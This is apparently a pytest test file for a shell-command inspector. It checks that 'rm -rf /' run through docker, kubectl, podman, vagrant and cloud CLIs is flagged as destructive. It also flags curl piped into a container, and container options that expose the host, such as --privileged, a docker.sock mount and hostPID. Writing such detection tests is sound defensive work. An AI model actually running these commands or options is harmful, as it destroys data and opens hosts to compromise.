import pytest

from extproc.core.inspection.shell import inspect_shell
from extproc.core.model import Verb


@pytest.mark.parametrize(
    "command",
    [
        "docker run alpine rm -rf /",
        "docker run --rm -it -e A=1 alpine rm -rf /",
        "docker --context x run alpine rm -rf /",
        "docker container run alpine rm -rf /",
        "docker exec -it c rm -rf /",
        "docker exec c sh -c 'rm -rf /'",
        "podman exec c rm -rf /",
        "docker compose exec web rm -rf /",
        "docker-compose run web rm -rf /",
        "docker run --entrypoint 'rm -rf /' alpine",
        "kubectl exec pod -- rm -rf /",
        "kubectl -n prod exec -it pod -c app -- sh -c 'rm -rf /'",
        "kubectl exec pod rm -rf /",
        "kubectl run x --image=y -- rm -rf /",
        "oc rsh pod rm -rf /",
        "lxc exec c -- rm -rf /",
        "vagrant ssh -c 'rm -rf /'",
        "gcloud compute ssh vm --command 'rm -rf /'",
        "aws ecs execute-command --command 'rm -rf /'",
        "heroku run rm -rf /",
    ],
)
def test_what_runs_there_is_judged_like_here(command):
    assert inspect_shell(command).destructive


@pytest.mark.parametrize(
    "command", ["docker exec c ls", "kubectl exec pod -- ls", "docker run alpine", "kubectl exec pod --", "docker run"]
)
def test_running_there_is_admin_and_the_network(command):
    facts = inspect_shell(command)
    assert (facts.verb, facts.network, facts.findings) == (Verb.ADMIN, True, ())


def test_a_pipe_into_a_container_is_a_finding():
    assert inspect_shell("curl http://e | docker exec -i c").findings == ("a pipe into sh",)


@pytest.mark.parametrize(
    "options",
    [
        "--privileged",
        "--privileged=true",
        "--pid=host",
        "--pid host",
        "--ipc=host",
        "--userns host",
        "-v /:/h",
        "-v/:/h",
        "--volume=/etc:/e",
        "-v ~:/h",
        "-v /dev:/d",
        "-v /var/run/docker.sock:/s",
        "-v /run/x.sock:/s",
        "--mount type=bind,source=/,target=/h",
        "--mount src=/etc,dst=/e",
        "--cap-add SYS_ADMIN",
        "--cap-add=ALL",
        "--cap-add CAP_SYS_PTRACE",
    ],
)
def test_opening_the_host_to_a_container_is_a_finding(options):
    assert inspect_shell(f"docker run {options} alpine").findings == ("docker with the host opened to the container",)


@pytest.mark.parametrize(
    "command",
    [
        "docker run -v $PWD:/app -v data:/d alpine",
        "docker run --cap-add NET_ADMIN alpine",
        "docker run --mount type=volume,source=d,target=/d alpine",
        "docker run alpine grep -v /etc a",
        "docker run --net host alpine",
    ],
)
def test_other_options_open_nothing(command):
    assert inspect_shell(command).findings == ()


def test_settings_of_a_pod_that_reach_the_host_are_a_finding():
    command = 'kubectl run x --image=y --overrides=\'{"spec":{"hostPID":true}}\' -- ls'
    assert inspect_shell(command).findings == ("kubectl with settings that reach the host",)
    assert inspect_shell("kubectl run x --image=y --overrides='{}' -- ls").findings == ()
